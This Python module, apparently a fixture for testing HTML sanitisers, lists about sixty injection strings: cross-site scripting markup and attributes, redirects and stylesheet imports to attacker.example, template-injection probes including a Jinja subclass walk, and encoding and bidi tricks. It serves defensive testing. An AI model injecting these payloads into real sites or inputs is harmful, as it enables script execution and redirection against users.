"""Sixty strings that try to become more than text on a page: markup, addresses, tricks of encoding and direction.

`HIT` is what each would set if a browser ran it.
"""

from __future__ import annotations

HIT = "window.hit=1"

_MARKUP = (
    f"<script>{HIT}</script>",
    f"</title><script>{HIT}</script>",
    f"</script><script>{HIT}</script>",
    f"<ScRiPt >{HIT}</ScRiPt >",
    f"<script/x>{HIT}</script>",
    f"<img src=x onerror={HIT}>",
    f"<img src=x onerror='{HIT}'//",
    f'"><img src=x onerror="{HIT}">',
    f"'><img src=x onerror={HIT}>",
    f"`><img src=x onerror={HIT}>",
    f"<svg onload={HIT}>",
    f"<svg/onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{HIT}'><text y=20>x</text></a></svg>",
    f"<math><mi xlink:href='javascript:{HIT}'>x</mi></math>",
    f"<iframe src='javascript:{HIT}'></iframe>",
    f"<iframe srcdoc='<script>{HIT}</script>'></iframe>",
    f"<object data='javascript:{HIT}'></object>",
    f"<embed src='javascript:{HIT}'>",
    f"<body onload={HIT}>",
    f"<input autofocus onfocus={HIT}>",
    f"<select autofocus onfocus={HIT}>",
    f"<textarea autofocus onfocus={HIT}>",
    f"<video><source onerror={HIT}></video>",
    f"<audio src=x onerror={HIT}>",
    f"<details open ontoggle={HIT}>",
    f"<marquee onstart={HIT}>",
    f"<a href='javascript:{HIT}'>x</a>",
    f"<a href='jav&#x09;ascript:{HIT}'>x</a>",
    f"<form action='javascript:{HIT}'><button>x</button></form>",
    f"<button formaction='javascript:{HIT}'>x</button>",
    "<base href='https://attacker.example/'>",
    "<meta http-equiv=refresh content='0;url=https://attacker.example/'>",
    "<link rel=stylesheet href='https://attacker.example/x.css'>",
    "<style>@import 'https://attacker.example/x.css';</style>",
    f"<div style='background:url(javascript:{HIT})'>x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    f"<noscript><p title=\"</noscript><img src=x onerror={HIT}>\">",
    f"<!--><img src=x onerror={HIT}>-->",
    f"<![CDATA[><img src=x onerror={HIT}>]]>",
    f"<template><img src=x onerror={HIT}></template>",
    f"<xmp><img src=x onerror={HIT}></xmp>",
    f"<plaintext><img src=x onerror={HIT}>",
)  # fmt: skip
_ATTRIBUTES = (
    f'" onmouseover="{HIT}',
    f"' onmouseover='{HIT}",
    f'" autofocus onfocus="{HIT}',
    f"x onpointerenter={HIT}",
    f"javascript:{HIT}",
    f"JaVaScRiPt:{HIT}",
    f"java\tscript:{HIT}",
    f"data:text/html,<script>{HIT}</script>",
    "vbscript:msgbox(1)",
)
_TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7}",
    "#{7*7}",
)
_ENCODINGS = (
    f"\u2028<script>{HIT}</script>\u2029",
    f"＜script＞{HIT}＜/script＞",
    f"&lt;script&gt;{HIT}&lt;/script&gt;",
    f"+ADw-script+AD4-{HIT}+ADw-/script+AD4-",
    "\u202etxt.exe\u202c \u2066x\u2069",
    "x\x00<script>y</script>\x1b[31m\x07",
)
STRINGS = _MARKUP + _ATTRIBUTES + _TEMPLATES + _ENCODINGS
